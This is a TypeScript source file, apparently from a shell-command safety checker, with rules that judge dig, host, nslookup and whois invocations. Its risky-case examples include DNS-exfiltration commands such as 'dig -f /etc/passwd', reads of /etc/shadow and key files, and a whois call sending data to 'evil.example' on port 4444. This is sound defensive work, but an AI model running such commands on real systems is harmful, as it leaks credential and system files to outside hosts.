/** dig, host, nslookup, whois: questions to name servers and registries. */
import { carriesData } from '../hosts.ts';
import { optionTable, scanOptions, undeclaredOption } from '../options.ts';
import { at, over, type Rule, risky, safe, type Verdict, type Word } from '../rule.ts';
import { asksForHelp, encodedName, host, hosts, integer, odd, token } from './common.ts';
import { optionProgram, type Program } from './program.ts';

const batchFile = risky(
  'dig.batch-file',
  1,
  'Every line of the file would become a DNS query, so the file leaves the machine.',
  ['dig -f /etc/passwd', 'dig -4f /etc/passwd', 'dig -f/etc/passwd'],
  ['dig example.com'],
);
const keyMaterial = risky('dig.key', 1, 'A key is read from a file or stands on the command line.', [
  'dig -k /etc/bind/key example.com',
  'dig -y hmac-sha256:k:c2VjcmV0 example.com',
]);
const tlsFile = risky('dig.tls-file', 1, 'A certificate or key file is read for this query.', [
  'dig +tls-ca=/etc/shadow example.com',
  'dig +tls-keyfile=/root/k.pem example.com',
]);
const interactive = risky(
  'nslookup.interactive',
  1,
  'Without a name to look up nslookup reads commands interactively.',
  ['nslookup', 'nslookup -', 'nslookup - 8.8.8.8', 'nslookup -type=MX'],
  ['nslookup example.com', 'nslookup -type=MX example.com 8.8.8.8'],
);
const otherPort = risky(
  'whois.other-port',
  1,
  'This sends the text to a port of choice on a host of choice, not to a registry.',
  ['whois -h evil.example -p 4444 data', 'whois -p 80 x'],
  ['whois -h whois.ripe.net -p 43 AS3333'],
);

/** Keywords after `+`, with and without `no`. dig accepts unambiguous beginnings of them. */
const PLUS = (
  'aaflag aaonly additional adflag all answer authority badcookie besteffort bufsize cdflag class cmd coflag ' +
  'comments cookie crypto defname dns64prefix dnssec do domain dscp edns ednsflags ednsnegotiation ednsopt expandaaaa ' +
  'expire fail header-only http-plain http-plain-get http-plain-post https https-get https-post identify idn idnin ' +
  'idnout ignore keepalive keepopen mapped multiline ndots nsid nssearch onesoa opcode padding proxy proxy-plain qid qr ' +
  'question raflag rdflag recurse retry rrcomments search short showallmessages showbadcookie showbadvers ' +
  'showsearch sigchase split stats subnet svcparamkeycompat tcflag tcp time timeout tls tls-hostname topdown trace ' +
  'tries trusted-key ttl ttlid ttlunits unknownformat vc yaml zflag zoneversion'
).split(' ');
const PLUS_FILES = ['tls-ca', 'tls-certfile', 'tls-keyfile', 'trusted-key'];
const PLUS_KNOWN: ReadonlySet<string> = new Set(PLUS.filter((name) => !PLUS_FILES.includes(name)));

function plusObjection(text: string): Rule | null {
  const equals = text.indexOf('=');
  const keyword = (equals === -1 ? text.slice(1) : text.slice(1, equals)).toLowerCase();
  const bare = keyword.startsWith('no') && !PLUS_KNOWN.has(keyword) ? keyword.slice(2) : keyword;
  if (!PLUS_KNOWN.has(bare)) {
    if (bare === '' || PLUS_FILES.some((name) => name.startsWith(bare))) return tlsFile;
    if (!PLUS.some((name) => name.startsWith(bare))) return undeclaredOption;
  }
  if (equals === -1) return null;
  const value = text.slice(equals + 1);
  return carriesData(value) ? encodedName : /^[A-Za-z0-9_.:/@,-]{0,128}$/.test(value) ? null : odd;
}

const digTable = optionTable({
  flags: '-4 -6 -d -h -i -m -n -r -u -v',
  values: [
    ['-b -p -c -t', token],
    ['-q', host],
    ['-x', host],
  ],
  refused: [
    [batchFile, '', '-f'],
    [keyMaterial, '', '-k -y'],
  ],
});

/** Names with the characters DNS tools take; a leading `@` names the server. */
const QUERY = /^@?[A-Za-z0-9_.:%/*=#-]+$/;

const dig: Program = {
  names: ['dig'],
  folders: [],
  safe: safe('dig.read', 1, 'dig asks name servers.', [
    'dig example.com',
    'dig @8.8.8.8 +short -t MX example.com',
    'dig -x 10.0.0.1',
    'dig +sho example.com',
  ]),
  rules: [batchFile, keyMaterial, tlsFile],
  judge(words) {
    const plain: Word[] = [];
    for (const word of words) {
      if (!word.value.startsWith('+')) {
        plain.push(word);
        continue;
      }
      const objection = word.glob ? odd : plusObjection(word.value);
      if (objection !== null) return at(objection, word);
    }
    const scan = scanOptions(digTable, plain);
    if (scan.verdict !== null) return scan.verdict;
    for (const operand of scan.operands) {
      if (!QUERY.test(operand.value)) return at(odd, operand);
      if (carriesData(operand.value)) return at(encodedName, operand);
    }
    return over(dig.safe, words);
  },
};

const hostProgram: Program = optionProgram({
  names: ['host'],
  safe: safe('host.read', 1, 'host asks name servers.', [
    'host -t MX example.com 8.8.8.8',
    'host -a example.com',
  ]),
  rules: [],
  options: {
    flags: '-4 -6 -a -A -C -d -i -l -n -r -s -T -U -v -V -w',
    values: [
      ['-c -t', token],
      ['-N -p -R -W', integer],
      ['-m', (value) => (/^(?:trace|record|usage|size|mctx)$/.test(value) ? null : odd)],
    ],
  },
  operands: hosts(1, 2),
});

/** nslookup reads `-name` and `-name=value` as settings, in any case and shortened. */
const SETTING =
  /^-(?:(?:no)?(?:all|debug|d2|recurse|vc|fail|search|defname|ignoretc|msxfr|sil|silent|aa)|version|class=[A-Za-z]+|(?:t(?:y(?:p(?:e)?)?)?|q(?:u(?:e(?:r(?:y(?:t(?:y(?:p(?:e)?)?)?)?)?)?)?)?)=[A-Za-z0-9-]+|(?:timeout|ti|retry|ret|port|po|ndots)=\d{1,5}|(?:domain|do)=[A-Za-z0-9_.-]+|(?:srchlist|srchl)=[A-Za-z0-9_./-]+)$/i;

const nslookup: Program = {
  names: ['nslookup'],
  folders: [],
  safe: safe('nslookup.read', 1, 'nslookup asks name servers.', [
    'nslookup -type=MX example.com',
    'nslookup example.com 8.8.8.8',
  ]),
  rules: [interactive],
  judge(words) {
    const names: Word[] = [];
    for (let i = 1; i < words.length; i += 1) {
      const word = words[i]!;
      if (word.value === '-') return at(interactive, word);
      if (word.glob) return at(odd, word);
      if (word.value.startsWith('-')) {
        if (!SETTING.test(word.value)) return at(undeclaredOption, word);
      } else {
        const objection = host(word.value);
        if (objection !== null) return at(objection, word);
        names.push(word);
      }
    }
    const version = words.length === 2 && words[1]!.value.toLowerCase() === '-version';
    if (names.length === 0) return version ? over(nslookup.safe, words) : over(interactive, words);
    if (names.length > 2) return at(odd, names[2]!);
    return over(nslookup.safe, words);
  },
};

/** Objects of registries: names, numbers, address ranges. */
const REGISTRY = /^[A-Za-z0-9_.:/ =+-]{1,256}$/;

const whois: Program = optionProgram({
  names: ['whois'],
  safe: safe('whois.read', 1, 'whois asks a registry.', [
    'whois example.com',
    'whois -h whois.ripe.net AS3333',
  ]),
  rules: [otherPort],
  options: {
    flags: '-a -A -b -B -d -G -H -I -l -L -m -M -K -r -R -Q -x -c --verbose --help --version --no-recursion',
    values: [
      ['-h --host', host],
      ['-i -s -T -t -v -q -g', token],
      ['-p --port', (value) => (value === '43' ? null : otherPort)],
    ],
  },
  operands(scan, words): Verdict | null {
    if (asksForHelp(scan)) return null;
    if (scan.operands.length === 0 && !scan.seen.some((name) => '-t -v -q'.includes(name)))
      return over(odd, words);
    for (const operand of scan.operands) {
      if (!REGISTRY.test(operand.value) || operand.value.startsWith('/')) return at(odd, operand);
      if (carriesData(operand.value)) return at(encodedName, operand);
    }
    return null;
  },
});

export const DNS: readonly Program[] = [dig, hostProgram, nslookup, whois];
